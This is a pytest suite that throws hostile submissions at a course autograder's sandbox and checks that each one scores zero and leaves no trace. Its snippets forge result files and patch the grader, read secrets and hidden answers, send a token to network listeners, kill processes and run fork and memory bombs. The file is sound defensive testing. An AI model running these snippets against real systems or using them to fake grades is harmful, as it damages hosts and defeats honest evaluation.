"""Hostile submissions against the real grader (sandbox, driver, judge).

Each attack is a snippet appended to ``tests/adapters.py`` (it runs when the driver loads the
student's adapters, before any case) on top of the bare handout and of the reference solution.
For every attack: ``results.json`` is written, bare + attack scores 0, reference + attack scores
no more than the reference, nothing outside the grading folder changed (a canary folder, the
instructor's expected values, case files, driver and environment), no process is left behind,
no secret and no network peer was reached. Malformed zips are refused with a clear message.

The default run is a smoke subset cheap enough for CI; ``CS336_GRADER_ATTACKS=all`` (``make
grader-attacks``) runs every attack, at both isolation levels: ``CS336_ISOLATION=container``
under ``python -m course.grading.confine no-namespaces`` is a default Docker container as far as the
grader can tell. Without a working sandbox the tests are skipped unless
``CS336_REQUIRE_SANDBOX=1`` (CI), where they fail.

Beyond breaking out, the attacks try to learn or borrow: hidden inputs sent back through
exception messages, printed text and exit paths (no byte of them may reach ``results.json``),
packages the rubric blocks, replay of the shipped public answers (worth nothing: public cases
carry no points), memory in memfd files, SysV segments and ``/dev/shm`` (refused or counted),
and busy loops that must not cost a neighbouring component its points. Others try to pass
notes between runs (every writable place, abstract socket names, IPC objects; hidden runs to
the public one and one grading to the next), leave sleepers and daemons behind (the run must end
with its driver), never finish importing (no hidden run may start), or read the mount table,
environment and command lines for the grader's host paths. Runaway processes inside a case (a
pool that never starts, busy and sleeping children) stop that case at its limit, with them;
the other components keep their points (the full-rubric hang zip, minutes per level, outside CI:
``CS336_GRADER_ATTACKS=hang``, ``make grader-hang``).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest
from safetensors.torch import save

from course.grading.grade import CASE_FILES, DIAGNOSIS_FILES, Course, grade, grade_batch
from course.grading.judge import load_rubric
from course.grading.sandbox import (
    SANDBOX_UID_BASE,
    SHARED_PLACES,
    Runtime,
    SandboxUnavailable,
    isolation,
)
from course.paths import DRIVER, HIDDEN, REPO_ROOT, relative
from course.workspace import stage

pytestmark = pytest.mark.slow  # subprocesses: run by `make test-all` and CI, not by plain `pytest`

COMPONENT = "softmax"
RUBRIC = f"""
[grading]
blocked_packages = ["tiktoken", "tokenizers", "transformers"]

[limits]
wall_s = 90
cpu_s = 60
memory_gib = 3
processes = 200

[[component]]
name = "{COMPONENT}"
points = 4
"""
FULL = 4.0
SMOKE = {"all_in_one"}
WANT_ALL = os.environ.get("CS336_GRADER_ATTACKS") == "all"
WANT_HANG = os.environ.get("CS336_GRADER_ATTACKS") == "hang"


def _sandbox_or_skip() -> None:
    try:
        isolation()
    except SandboxUnavailable as error:
        if os.environ.get("CS336_REQUIRE_SANDBOX") == "1":
            raise
        pytest.skip(f"no working bubblewrap sandbox here: {error}")


# --- The attacks (placeholders: {token} {canary} {repo} {course} {port} {port6} {unix} {abstract}) ----

FORGE = """
def _forge():
    import glob, json, os
    for path in glob.glob("/grader/inputs/*/*.json") + glob.glob("/grader/inputs/*.json"):
        case = os.path.basename(path)[: -len(".json")]
        header = {"case": case, "status": "ok", "error": None, "values": {}, "tensors": [], "seconds": 0}
        for folder in ("/out", os.getcwd()):
            try:
                with open(os.path.join(folder, case + ".json"), "w") as stream:
                    json.dump(header, stream)
            except OSError:
                pass
"""

ATTACKS: dict[str, str] = {
    # Write "passed" outputs for every case, then leave before the driver writes real ones.
    "forge_outputs_then_exit": FORGE + "_forge()\nimport os\nos._exit(0)\n",
    # The same from atexit handlers and a thread racing the driver's own writes.
    "forge_from_atexit_and_thread": FORGE
    + """
import atexit, threading, time
atexit.register(_forge)
def _loop():
    while True:
        _forge()
        time.sleep(0.005)
threading.Thread(target=_loop, daemon=True).start()
""",
    # Find the reference solution anywhere (environment, file system, metadata) and use it.
    "import_reference": """
import importlib.metadata, os, sys
_found = []
for _top in ("/", ):
    for _dir, _subdirs, _files in os.walk(_top):
        if _dir.startswith(("/proc", "/sys", "/work", "/in")):
            _subdirs[:] = []
            continue
        if os.path.basename(_dir) == "cs336_basics" and "model.py" in _files:
            _found.append(_dir)
for _name in ("cs336-basics", "cs336_basics"):
    try:
        _found.append(importlib.metadata.distribution(_name).read_text("direct_url.json"))
    except Exception:
        pass
for _path in ("{repo}", "{repo}/cs336_basics"):
    if os.path.isdir(_path):
        _found.append(_path)
sys.path[:0] = ["{repo}"]
import cs336_basics
for _dir in _found:
    if os.path.isdir(_dir):
        cs336_basics.__path__.insert(0, _dir)
if _found:
    raise RuntimeError("LEAK reference found: %r" % _found)
""",
    # Grading must not run pytest or any file of the zip besides the code: hooks do nothing.
    "pytest_hooks_and_conftest": """
import os
for _name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py"):
    try:
        open(os.path.join(os.getcwd(), _name), "w").write("raise SystemExit(0)\\n")
    except OSError:
        pass
""",
    # Patch the driver in memory so every case "passes" with made-up outputs.
    "tamper_driver_in_memory": """
import __main__, sys
def _fake_run_case(case, adapters, inputs):
    return __main__.Outputs({}, None) if hasattr(__main__, "Outputs") else None
for _module in list(sys.modules.values()):
    if getattr(_module, "run_case", None) is not None:
        try:
            _module.run_case = _fake_run_case
        except Exception:
            pass
import pathlib
for _path in pathlib.Path("/grader").rglob("*.py"):
    try:
        _path.write_text("raise SystemExit(0)\\n")
    except OSError:
        pass
""",
    # Regain write access (remount, new namespaces) and write outside the sandbox.
    "write_outside_and_remount": """
import os, subprocess
for _cmd in (["mount", "-o", "remount,rw", "/grader"], ["mount", "-o", "remount,rw", "/"],
             ["unshare", "-Urm", "sh", "-c", "mount -o remount,rw /grader; echo x > /grader/course/grading/driver.py"],
             ["mount", "-t", "tmpfs", "none", "/grader"], ["su", "-c", "id"], ["chroot", "/"]):
    try:
        subprocess.run(_cmd, capture_output=True, timeout=10)
    except Exception:
        pass
_written = []
for _path in ("{canary}/written", "{canary}/file", "{course}/course/cases/hidden/expected/pwned",
              "{course}/course/grading/driver.py", "{repo}/course/grading/driver.py",
              "/grader/course/grading/driver.py", "/opt/site-packages/torch/__init__.py",
              "/usr/lib/pwned", "/etc/passwd", "/proc/sysrq-trigger", "/proc/1/root/grader/x"):
    try:
        with open(_path, "a") as _stream:
            _stream.write("pwned")
        _written.append(_path)
    except OSError:
        pass
if any(not p.startswith("/proc") for p in _written):
    raise RuntimeError("LEAK wrote %r" % _written)
""",
    # Kill every process it can see: the driver's parents, the grader if it were visible.
    "kill_everything": """
import os, signal
for _pid in range(1, 4096):
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
""",
    # Daemons in their own sessions that try to rewrite outputs later.
    "daemon_survives": """
import os, subprocess, sys
_code = "import time\\nwhile True:\\n    time.sleep(0.05)\\n    open('/out/forged.json', 'w').write('x')"
for _session in (True, False):
    subprocess.Popen([sys.executable, "-S", "-c", _code, "{token}"], start_new_session=_session,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(600)", "{token}"])
    os._exit(0)
""",
    # Read host secrets, the expected values, the environment of the grader.
    "read_secrets": """
import os
_leaks = []
for _path in ("/etc/shadow", "/root", "/home", "{canary}/secret.txt", "{repo}", "{course}",
              "{course}/course/cases/hidden/expected", "/proc/1/environ"):
    try:
        _leaks.append((_path, os.listdir(_path) if os.path.isdir(_path) else open(_path, "rb").read()[:200]))
    except OSError:
        pass
_leaks = [l for l in _leaks if l[0] != "/proc/1/environ" or b"{token}" in l[1]]
for _pid in os.listdir("/proc"):
    try:
        if b"{token}" in open("/proc/%s/environ" % _pid, "rb").read():
            _leaks.append(_pid)
    except OSError:
        pass
for _dir, _subdirs, _files in os.walk("/"):
    if _dir.startswith(("/proc", "/sys", "/grader", "/usr", "/opt")):
        _subdirs[:] = []
        continue
    _leaks += [os.path.join(_dir, f) for f in _files if "expected" in f]
_env = {k for k in os.environ if k not in {"PATH", "HOME", "TMPDIR", "LANG", "PYTHONPATH",
        "LD_LIBRARY_PATH", "PYTHONDONTWRITEBYTECODE", "PYTHONHASHSEED", "OMP_NUM_THREADS",
        "MKL_NUM_THREADS", "MPLBACKEND", "PWD"}}
if _env:
    _leaks.append(("environment", sorted(_env)))
if _leaks:
    raise RuntimeError("LEAK %r" % _leaks)
""",
    # Reach the host: TCP over IPv4 and IPv6, Unix sockets (path and abstract), raw sockets.
    "network": """
import socket
_reached = []
def _try(what, make, address):
    try:
        s = make()
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"{token}")
        _reached.append(what)
    except OSError:
        pass
_try("inet", lambda: socket.socket(socket.AF_INET), ("127.0.0.1", {port}))
_try("inet6", lambda: socket.socket(socket.AF_INET6), ("::1", {port6}))
_try("unix", lambda: socket.socket(socket.AF_UNIX), "{unix}")
_try("abstract", lambda: socket.socket(socket.AF_UNIX), "\\0{abstract}")
_try("outside", lambda: socket.socket(socket.AF_INET), ("1.1.1.1", 53))
for _family, _type, _proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                                (getattr(socket, "AF_PACKET", 17), socket.SOCK_RAW, 0)):
    try:
        socket.socket(_family, _type, _proto)
        _reached.append(("raw", _family))
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    _reached.append("dns")
except OSError:
    pass
if _reached:
    raise RuntimeError("LEAK network %r" % _reached)
""",
    # Resource bombs: memory across many processes, processes, disk, output.
    "memory_bomb": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        _block = bytearray(600 * 2**20)
        for _i in range(0, len(_block), 4096):
            _block[_i] = 1
        time.sleep(600)
        os._exit(0)
try:
    _huge = bytearray(64 * 2**30)
except MemoryError:
    pass
time.sleep(600)
""",
    "fork_bomb": """
import os, time
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
time.sleep(2)
""",
    "disk_bomb": """
import os
for _folder in ("/work", "/tmp", "/dev/shm", "/out", os.getcwd(), "/"):
    try:
        with open(os.path.join(_folder, "fill"), "wb") as _stream:
            for _ in range(4096):
                _stream.write(b"x" * 2**20)
    except OSError:
        pass
for _i in range(20000):
    try:
        open("/out/f%d" % _i, "w").close()
    except OSError:
        break
""",
    # Sparse files: little space on the tmpfs, gigabytes in the output stream.
    "sparse_output_bomb": """
import os
for _i in range(200):
    try:
        with open("/out/s%d.json" % _i, "wb") as _stream:
            _stream.truncate(60 * 2**20)
    except OSError:
        break
""",
    "output_bomb": """
import sys
for _ in range(200):
    sys.stderr.write("spam" * 250000)
    print("spam" * 250000)
raise RuntimeError("x" * 10**7)
""",
    # Special files where the judge expects outputs; device nodes.
    "fifos_links_and_devices": FORGE
    + """
import glob, os
for _path in glob.glob("/grader/inputs/*/*.json"):
    _case = os.path.basename(_path)[: -len(".json")]
    for _name, _make in ((_case + ".json", os.mkfifo),
                          (_case + ".safetensors", lambda p: os.symlink("{course}/course/cases/hidden/expected", p))):
        try:
            os.unlink("/out/" + _name)
        except OSError:
            pass
        try:
            _make("/out/" + _name)
        except OSError:
            pass
try:
    os.mknod("/out/null", 0o20666, os.makedev(1, 3))
except OSError:
    pass
os._exit(0)
""",
    # Never return, ignoring the driver's alarm: only the wall-clock limit stops it.
    "hang_ignoring_alarm": """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer = lambda *a, **k: None
while True:
    pass
""",
    "segfault": "import ctypes\nctypes.string_at(0)\n",
    # Break the driver's own machinery: poisoned stdlib modules, exits of every kind.
    "poison_modules": """
import json, sys
json.dump = json.dumps = lambda *a, **k: (_ for _ in ()).throw(SystemExit(0))
sys.modules["safetensors"] = None
raise KeyboardInterrupt
""",
    # Nested user namespaces and setuid helpers are off.
    "namespaces_and_setuid": """
import ctypes, os, subprocess
_got = []
_libc = ctypes.CDLL(None, use_errno=True)
if _libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
    _got.append("userns")
for _cmd in (["unshare", "-U", "true"], ["newuidmap"], ["sudo", "true"], ["mount", "--bind", "/", "/tmp"]):
    try:
        if subprocess.run(_cmd, capture_output=True, timeout=10).returncode == 0:
            _got.append(_cmd[0])
    except Exception:
        pass
if _got:
    raise RuntimeError("LEAK privileges %r" % _got)
""",
    # Send the hidden inputs out: in exception messages (at import and in every case), in
    # printed text, through a crash whose last output the grader might quote.
    "leak_hidden_inputs": """
import glob, os, sys
_inputs = [a.split("=", 1)[1] for a in sys.argv if a.startswith("--inputs=")]
_found = []
for _path in sorted(glob.glob(os.path.join(_inputs[0], "*", "*")) if _inputs else []):
    _data = open(_path, "rb").read()
    _found.append(_data[:48].hex() + _data[-48:].hex())
# What reaches results.json from the public run is public: marked SENT, not LEAK.
print("SENT-PRINTED", _found, file=sys.stderr)
def run_softmax(in_features, dim):
    raise ValueError("SENT-RAISED " + " ".join(_found))
if _found and any("-hidden-" in p for p in glob.glob(os.path.join(_inputs[0], "*", "*"))):
    class LeakException(Exception):
        pass
    LeakException.__name__ = "Sent" + _found[0][:40]
    def run_softmax(in_features, dim):
        raise LeakException(" ".join(_found))
    _graded = [a.split("=", 1)[1].split(",") for a in sys.argv if a.startswith("--component=")]
    if _graded and "softmax" in _graded[0]:  # alone, or with others in a shared hidden sandbox
        sys.stderr.write("SENT-LOG " + " ".join(_found))
        os._exit(3)
""",
    # Packages that implement graded parts are blocked while grading.
    "borrow_blocked_packages": """
_borrowed = []
for _name in ("tiktoken", "tokenizers", "transformers", "tiktoken.core"):
    try:
        __import__(_name)
        _borrowed.append(_name)
    except ImportError as _error:
        if "blocked while grading" not in str(_error):
            _borrowed.append("unclear message for " + _name)
import importlib.util, sys
for _entry in sys.path:
    for _name in ("tiktoken", "tokenizers", "transformers"):
        _init = __import__("os").path.join(_entry, _name, "__init__.py")
        try:
            open(_init).read(10)
            _borrowed.append("read " + _init)
        except OSError:
            pass
if _borrowed:
    raise RuntimeError("LEAK borrowed %r" % _borrowed)
""",
    # Memory the process watchdog cannot see: memfd files, SysV shared memory, /dev/shm files.
    "hoard_shared_memory": """
import ctypes, os, time
_got = []
try:
    _fd = os.memfd_create("hoard")
    os.ftruncate(_fd, 2**30)
    os.write(_fd, b"x" * 2**20)
    _got.append("memfd")
except OSError:
    pass
_libc = ctypes.CDLL(None, use_errno=True)
if _libc.shmget(0, 2**30, 0o1000 | 0o600) >= 0:  # IPC_PRIVATE, IPC_CREAT
    _got.append("sysv shm")
_written = 0
for _i in range(80):
    try:
        with open("/dev/shm/hoard%d" % _i, "wb") as _stream:
            for _ in range(48):
                _stream.write(b"x" * 2**20)
                _written += 2**20
    except OSError:
        pass
if _written > 3 * 2**30:
    time.sleep(5)  # the watchdog counts /dev/shm: this must not survive
    _got.append("dev/shm %d MiB" % (_written >> 20))
if _got:
    raise RuntimeError("LEAK memory %r" % _got)
""",
    # Notes between runs: every run (public and hidden, of this grading and of the next one)
    # looks for notes of other runs in every place it may write, then leaves its own there,
    # with a piece of a hidden input in a hidden run's, and holds an abstract socket name from
    # a daemon. A public run that finds anything raises it (LEAK in results.json); a hidden one
    # fails every case, which costs the reference its marks.
    "notes_between_runs": """
import ctypes, glob, os, socket, sys, time
_inputs = [a.split("=", 1)[1] for a in sys.argv if a.startswith("--inputs=")]
_hidden = sorted(p for p in glob.glob(os.path.join(_inputs[0] if _inputs else "/nowhere", "*", "*"))
                 if "-hidden-" in p)
_role = "hidden" if _hidden else "public"
_note = _role + " " + (open(_hidden[0], "rb").read()[-32:].hex() if _hidden else "")
_mine = "cs336note-{token}-%s-%d" % (_role, os.getpid())
_places = {"/dev/shm", "/tmp", "/var/tmp", "/run/lock", "/var/lock", "/dev/mqueue", "/", "/work",
           "/out", os.environ.get("TMPDIR", "/tmp"), os.environ.get("HOME", "/"), os.getcwd()}
_up = os.getcwd()
for _ in range(4):
    _up = os.path.dirname(_up)
    _places.add(_up)
_seen = []
for _place in sorted(_places):
    try:
        for _name in os.listdir(_place):
            if _name.startswith("cs336note-{token}") and _name != _mine:
                _seen.append(open(os.path.join(_place, _name)).read())
    except OSError:
        pass
    try:
        with open(os.path.join(_place, _mine), "w") as _stream:
            _stream.write(_note)
        os.chmod(os.path.join(_place, _mine), 0o666)
    except OSError:
        pass
_held = socket.socket(socket.AF_UNIX)
try:
    _held.bind("\\0cs336note-{token}")
except OSError as _error:
    _seen.append("abstract socket name in use: %s" % _error)
_libc = ctypes.CDLL(None, use_errno=True)
if _libc.semget(0x336, 1, 0o1000 | 0o666) >= 0:
    _seen.append("a SysV semaphore any run can open")
if hasattr(_libc, "mq_open") and _libc.mq_open(b"/cs336note", 0o100 | 2, 0o666, None) >= 0:
    _seen.append("a POSIX message queue any run can open")
if os.fork() == 0:  # holds the socket name, and would hold it into the next run if it could
    time.sleep(600)
    os._exit(0)
if _seen and _role == "public":
    raise RuntimeError("LEAK notes from other runs: %r" % _seen)
if _seen:
    def run_softmax(in_features, dim):
        raise RuntimeError("a note crossed")
    def run_silu(in_features):
        raise RuntimeError("a note crossed")
""",
    # What a student leaves running by mistake: sleeping children and a daemon, no CPU used.
    # The run must end when the driver does, not at the wall-clock limit.
    "sleeping_daemon": """
import os, subprocess, sys
_sleepers = []
for _ in range(100):
    try:
        _sleepers.append(subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(3600)", "{token}"]))
    except OSError:
        break
if os.fork() == 0:
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(3600)", "{token}"])
    os._exit(0)
""",
    # An import that never ends, deaf to the driver's alarm: the hidden runs are not started.
    "endless_import": """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    # The mount table, environment and command lines of every process of the run: no host path
    # of the grader's (checkout, course files, Python install) may be in them.
    "dump_mount_table_and_environment": """
import os, sys
_dump = [open("/proc/self/mountinfo").read(), repr(dict(os.environ)), repr(sys.argv)]
for _pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if os.stat("/proc/" + _pid).st_uid == os.getuid():
            for _what in ("cmdline", "environ", "mountinfo"):
                _dump.append(open("/proc/%s/%s" % (_pid, _what), "rb").read().decode(errors="replace"))
    except OSError:
        pass
_text = "\\n".join(_dump)
_found = [p for p in ("{repo}", "{course}", "{prefix}", "{site}") if p in _text]
if _found:
    raise RuntimeError("LEAK host paths %r" % _found)
raise ValueError("DUMP " + _text[-1500:])
""",
}


# Several attacks in one submission, for the smoke run: each raises only on success, and the
# forgery comes last because it ends the process.
ATTACKS["all_in_one"] = "\n".join(
    ATTACKS[name]
    for name in (
        "import_reference",
        "write_outside_and_remount",
        "read_secrets",
        "network",
        "namespaces_and_setuid",
        "borrow_blocked_packages",
        "daemon_survives",
        "notes_between_runs",
        "leak_hidden_inputs",
        "forge_outputs_then_exit",
    )
)
# The same probes without the sandbox succeed: proof that the attacks above have teeth. Only
# those that read: the writing ones would damage the checkout.
READING_PROBES = {"import_reference": "LEAK reference found", "network": "LEAK network"}


# --- Building zips -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The reference solution's zip and the bare handout's zip, built now."""
    _sandbox_or_skip()
    folder = tmp_path_factory.mktemp("bases")
    run = [sys.executable, "-m"]
    subprocess.run(
        [*run, "course.handout.build", "--out", str(folder / "dist")],
        check=True,
        cwd=REPO_ROOT,
        capture_output=True,
    )
    for name, root in (("reference", REPO_ROOT), ("bare", folder / "dist" / "handout")):
        subprocess.run(
            [
                *run,
                "course.handout.submission",
                "--root",
                str(root),
                "--out",
                str(folder / f"{name}.zip"),
            ],
            check=True,
            cwd=REPO_ROOT,
            capture_output=True,
        )
    return {"reference": folder / "reference.zip", "bare": folder / "bare.zip"}


@pytest.fixture(scope="module")
def course_copy(tmp_path_factory: pytest.TempPathFactory) -> Course:
    """A private copy of the instructor's grading material: the attacks aim at it, and its
    fingerprint is not disturbed by anyone editing the checkout meanwhile."""
    root = stage(
        tmp_path_factory.mktemp("course"),
        (relative(DRIVER), relative(HIDDEN), *CASE_FILES, *DIAGNOSIS_FILES),
    )
    hidden = root / relative(HIDDEN)
    return Course(root=root, inputs=hidden / "inputs", expected=hidden / "expected")


def with_attack(base: Path, out: Path, snippet: str, extra: dict[str, str] | None = None) -> Path:
    """``base`` with ``snippet`` appended to its ``tests/adapters.py`` and ``extra`` files."""
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as sink:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("tests/adapters.py"):
                data += b"\n\n# --- attack ---\n" + snippet.encode()
            sink.writestr(info, data)
        for name, text in (extra or {}).items():
            sink.writestr(name, text)
    return out


class Host:
    """What the attacks aim at on the grading machine: a canary folder with a secret, network
    listeners, and fingerprints of the instructor's files."""

    def __init__(self, tmp: Path, course: Course) -> None:
        self.course = course
        self.token = "cs336attack" + secrets.token_hex(8)
        self.canary = tmp / "canary"
        self.canary.mkdir()
        (self.canary / "file").write_text("untouched")
        (self.canary / "secret.txt").write_text(self.token)
        (self.canary / "secret.txt").chmod(0o600)
        self.inet = socket.create_server(("127.0.0.1", 0))
        self.inet6 = (
            socket.create_server(("::1", 0), family=socket.AF_INET6) if socket.has_ipv6 else None
        )
        self.unix_path = str(tmp / "host.sock")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.unix_path)
        self.abstract_name = self.token
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0" + self.abstract_name)
        for listener in self.listeners:
            listener.listen()
            listener.setblocking(False)
        self.before = self.fingerprint()

    @property
    def listeners(self) -> list[socket.socket]:
        return [s for s in (self.inet, self.inet6, self.unix, self.abstract) if s is not None]

    def fill(self, snippet: str) -> str:
        values = {
            "token": self.token,
            "canary": str(self.canary),
            "repo": str(REPO_ROOT),
            "course": str(self.course.root),
            "port": self.inet.getsockname()[1],
            "port6": self.inet6.getsockname()[1] if self.inet6 else 1,
            "unix": self.unix_path,
            "abstract": self.abstract_name,
            "prefix": str(Runtime.current().prefix),
            "site": str(Runtime.current().site_packages),
        }
        for key, value in values.items():
            snippet = snippet.replace("{" + key + "}", str(value))
        return snippet

    def fingerprint(self) -> dict[str, str]:
        watched = [
            *sorted(self.canary.rglob("*")),
            *sorted(self.course.root.rglob("*")),
            Path(__import__("torch").__file__),
        ]
        return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in watched if p.is_file()}

    def assert_untouched(self) -> None:
        assert self.fingerprint() == self.before, "a file outside the grading folder changed"
        for listener in self.listeners:
            with pytest.raises(BlockingIOError):
                listener.accept()  # nobody connected

    def leftover_processes(self) -> list[str]:
        """Processes of this test (the attack's marker, or a sandbox uid below this process)
        still alive. Other graders running on the machine are not ours to count."""
        parents, found = {}, []
        for entry in filter(str.isdigit, os.listdir("/proc")):
            try:
                status = Path(f"/proc/{entry}/status").read_text()
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
            parents[int(entry)] = int(fields["PPid"])
            uid = int(fields["Uid"].split()[0])
            in_sandbox = SANDBOX_UID_BASE <= uid < SANDBOX_UID_BASE + 256
            if self.token.encode() in cmdline or (
                in_sandbox and self._below_us(int(entry), parents)
            ):
                found.append(f"{entry} uid={uid} {cmdline[:100]!r}")
        return found

    @staticmethod
    def _below_us(pid: int, parents: dict[int, int]) -> bool:
        while pid > 1:
            try:
                pid = parents.get(pid) or int(
                    Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1]
                )
            except (OSError, ValueError, IndexError):
                return False
            if pid == os.getpid():
                return True
        return False

    def close(self) -> None:
        for listener in self.listeners:
            listener.close()


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, course_copy: Course):
    host = Host(tmp_path, course_copy)
    monkeypatch.setenv("CS336_HOST_SECRET", host.token)  # must not reach the sandbox
    yield host
    host.close()


def grade_attack(zip_path: Path, out: Path, rubric: Path, host: Host) -> dict:
    report = grade(zip_path, out, rubric=rubric, course=host.course, jobs=1, quiet=True)
    written = json.loads((out / "results.json").read_text())
    assert written == report
    assert {t["name"] for t in report["tests"]} == {COMPONENT}
    text = json.dumps(report)
    assert host.token not in text, "a secret reached results.json"
    assert "LEAK" not in text, text[:2000]
    assert not any(p in text for p in hidden_fingerprints(host.course)), "a hidden input leaked"
    level = report["extra_data"]["isolation"]["mode"]
    assert level == os.environ.get("CS336_ISOLATION", level)
    assert "grader error" not in text, text[:2000]
    time.sleep(0.5)
    assert json.loads((out / "results.json").read_text()) == report, "results changed afterwards"
    return report


def hidden_fingerprints(course: Course) -> list[str]:
    """A piece of every hidden input tensor of the component, as the leak attack would encode
    it (the end of the file: tensor data, unlike the header, which public files share)."""
    paths = sorted((course.inputs / COMPONENT).glob(f"{COMPONENT}-hidden-*.safetensors"))
    return [path.read_bytes()[-32:].hex() for path in paths]


@pytest.fixture
def rubric(tmp_path: Path) -> Path:
    path = tmp_path / "rubric.toml"
    path.write_text(RUBRIC)
    return path


@pytest.mark.parametrize("attack", [a for a in ATTACKS if WANT_ALL or a in SMOKE], ids=lambda a: a)
def test_attack(
    attack: str, bases: dict[str, Path], host: Host, rubric: Path, tmp_path: Path
) -> None:
    snippet = host.fill(textwrap.dedent(ATTACKS[attack]))
    extra = {
        "conftest.py": "raise SystemExit(0)\n",
        "tests/conftest.py": "import os\nos._exit(0)\n",
    }
    reports = {}
    for base in ("bare", "reference"):  # the same attack twice: notes may cross gradings too
        zip_path = with_attack(bases[base], tmp_path / f"{base}.zip", snippet, extra)
        reports[base] = grade_attack(zip_path, tmp_path / base, rubric, host)
    assert reports["bare"]["score"] == 0.0
    assert reports["reference"]["score"] <= FULL
    for check in EXPECTED.get(attack, ()):
        check(reports)
    host.assert_untouched()
    assert host.leftover_processes() == []
    assert leftover_files(host.token) == []


def ended_with_the_driver(reports: dict[str, dict]) -> None:
    """No run waited for what the student left running (it would stop at the wall clock)."""
    for report in reports.values():
        assert "wall-clock" not in json.dumps(report), json.dumps(report)[:3000]


def reference_keeps_full_marks(reports: dict[str, dict]) -> None:
    """The reference with the attack keeps its marks: no run of it was disturbed."""
    assert reports["reference"]["score"] == FULL, reports["reference"]["tests"]


def hidden_runs_not_started(reports: dict[str, dict]) -> None:
    for report in reports.values():
        assert "No hidden case was run" in report["output"], report["output"]
        assert "tests/adapters.py" in report["output"]
        assert "did not finish importing in time" in report["tests"][0]["output"]


EXPECTED = {  # what an attack's two gradings must also show, beyond scoring nothing
    "sleeping_daemon": (ended_with_the_driver, reference_keeps_full_marks),
    "daemon_survives": (ended_with_the_driver,),
    "notes_between_runs": (reference_keeps_full_marks, ended_with_the_driver),
    "all_in_one": (ended_with_the_driver,),
    "endless_import": (hidden_runs_not_started,),
    "hang_ignoring_alarm": (hidden_runs_not_started,),
}


def leftover_files(token: str) -> list[str]:
    """What a sandbox uid of this grader (or a file named with this test's token) left in the
    places every user may write: memory nobody would free, notes for a later run."""
    ours = range(SANDBOX_UID_BASE, SANDBOX_UID_BASE + 256)
    found = []
    for place in SHARED_PLACES:
        with contextlib.suppress(OSError), os.scandir(place) as entries:
            for entry in entries:
                owner = entry.stat(follow_symlinks=False).st_uid
                if owner in ours or token in entry.name:
                    found.append(entry.path)
    return found


@pytest.mark.parametrize("probe", list(READING_PROBES))
def test_the_probes_find_leaks_without_the_sandbox(
    probe: str, bases: dict[str, Path], host: Host, rubric: Path, tmp_path: Path
) -> None:
    snippet = host.fill(textwrap.dedent(ATTACKS[probe]))
    zip_path = with_attack(bases["bare"], tmp_path / "probe.zip", snippet)
    report = grade(
        zip_path, tmp_path / "out", rubric=rubric, course=host.course, sandbox=False, quiet=True
    )
    assert READING_PROBES[probe] in json.dumps(report)


def test_reference_and_bare_without_attack(
    bases: dict[str, Path], rubric: Path, tmp_path: Path
) -> None:
    """The baseline the attacks are measured against: full marks and zero."""
    assert grade(bases["reference"], tmp_path / "ref", rubric=rubric, quiet=True)["score"] == FULL
    assert grade(bases["bare"], tmp_path / "bare", rubric=rubric, quiet=True)["score"] == 0.0


def test_batch_goes_on_after_hostile_zips(
    bases: dict[str, Path], host: Host, rubric: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "zips"
    folder.mkdir()
    honest = bases["reference"].read_bytes()
    (folder / "a_honest.zip").write_bytes(honest)
    with_attack(bases["bare"], folder / "b_killer.zip", ATTACKS["kill_everything"])
    (folder / "c_garbage.zip").write_bytes(b"PK\x03\x04 not really a zip")
    with_attack(
        bases["reference"], folder / "d_forger.zip", host.fill(ATTACKS["forge_outputs_then_exit"])
    )
    (folder / "e_honest.zip").write_bytes(honest)
    csv_path = grade_batch(folder, tmp_path / "grades", jobs=2, rubric=rubric, course=host.course)
    rows = [line.split(",")[:3] for line in csv_path.read_text().splitlines()]
    assert rows[0] == ["submission", "total", COMPONENT]
    scores = {row[0]: float(row[1]) for row in rows[1:]}
    assert scores == {
        "a_honest.zip": FULL,
        "b_killer.zip": 0.0,
        "c_garbage.zip": 0.0,
        "d_forger.zip": 0.0,
        "e_honest.zip": FULL,
    }
    for name in scores:
        assert (tmp_path / "grades" / Path(name).stem / "results.json").is_file()
    assert host.leftover_processes() == []


def test_replaying_the_public_answers_scores_nothing(
    bases: dict[str, Path], rubric: Path, tmp_path: Path, course_copy: Course
) -> None:
    """A submission that returns the shipped public answers by table look-up passes every
    public case and earns nothing: the points ride on hidden instances of the same cases."""
    from tests.cases.wire import read_bundle

    table = {}
    for path in sorted((course_copy.inputs / COMPONENT).glob(f"{COMPONENT}-public-*.json")):
        _, inputs = read_bundle(path.parent, path.stem)
